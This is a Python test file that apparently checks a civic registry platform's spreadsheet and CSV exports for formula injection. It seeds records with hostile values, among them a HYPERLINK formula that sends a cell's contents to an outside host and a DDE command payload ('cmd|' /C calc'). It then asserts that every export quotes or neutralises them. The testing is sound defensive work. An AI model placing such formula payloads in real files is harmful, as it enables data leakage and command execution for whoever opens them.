"""Whatever residents, places or registers are called, no file that leaves the platform holds a formula."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from langnghe.cases.intake.draft import RowError
from langnghe.cases.intake.errors_file import write_errors
from langnghe.core.formulas import is_formula
from langnghe.registry import law
from langnghe.registry.models import Body, Place, Topic
from tests.cast import Cast, moment, received
from tests.house.source import python
from tests.web.test_desk import signed_in

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://vidu.vn/?"&A1,"xem")'
STARTS = [
    "=1+1",
    "+84",
    "-5+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
]
WRITERS = {
    "langnghe/cases/intake/errors_file.py",
    "langnghe/cases/intake/register_book.py",
    "langnghe/reviews/render/sheets.py",
    "langnghe/web/tables.py",
    "langnghe/demo/doors.py",
}


@pytest.fixture(autouse=True)
def today(settings: Any) -> Any:
    settings.CLOCK = moment(30)
    yield
    law.forget()


def hostile_world(cast: Cast) -> None:
    """Call the commune, its body, a topic and what a resident says by a formula."""
    received(moment(11), channel="reception", text=HOSTILE, spot=HOSTILE, contact={"name": HOSTILE}, kind="petition")
    Place.objects.filter(pk=cast.commune.pk).update(name=HOSTILE)
    Body.objects.filter(pk=cast.committee.pk).update(name=HOSTILE)
    Topic.objects.filter(code="chieu_sang").update(keywords=HOSTILE)
    law.forget()


def files(cast: Cast) -> dict[str, bytes]:
    days = {"tu": "2026-06-01", "den": "2026-06-30"}
    officer, commission = signed_in(cast.officer), signed_in(cast.commission)
    answers = {
        "comparison": commission.get(reverse("comparison_file")),
        "registers": commission.get(reverse("register_export")),
        "statistics": officer.get(reverse("statistics"), days | {"tai": "xlsx"}),
        "book": officer.post(reverse("reception_book"), days | {"form": "xlsx", "ten": "1"}),
    }
    assert {name: answer.status_code for name, answer in answers.items()} == dict.fromkeys(answers, 200)
    return {name: bytes(answer.content) for name, answer in answers.items()}


def test_every_workbook_holds_words_and_no_formula(cast: Cast) -> None:
    hostile_world(cast)
    for name, content in files(cast).items():
        cells = [
            cell for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row
        ]
        assert any(HOSTILE in str(cell.value) for cell in cells), name
        assert not [cell.value for cell in cells if cell.data_type == "f"], name
        starting = [cell for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)]
        assert [cell.value for cell in starting if not cell.quotePrefix] == [], name


def test_nothing_else_writes_workbooks_or_comma_files() -> None:
    found = {each.name for each in python("langnghe") if "Workbook(" in each.text or "csv.writer(" in each.text}
    assert found == WRITERS


@pytest.mark.parametrize("text", STARTS)
def test_a_returned_row_is_quoted_in_excel_and_guarded_in_csv(tmp_path: Path, text: str) -> None:
    rows = [RowError(2, (), (text, "b"))], [RowError(2, (), (text, "b" * 40_000))]
    excel, comma = (write_errors(tmp_path, "so", [text, "B"], bad) for bad in rows)
    sheet = openpyxl.load_workbook(excel).active
    assert sheet is not None
    assert {(sheet[where].data_type, sheet[where].quotePrefix) for where in ("A1", "A2")} == {("s", True)}
    csv.field_size_limit(100_000)
    read = list(csv.reader(io.StringIO(comma.read_bytes().decode("utf-8-sig"), newline="")))
    assert [row[0][:1] for row in read] == ["'", "'"]
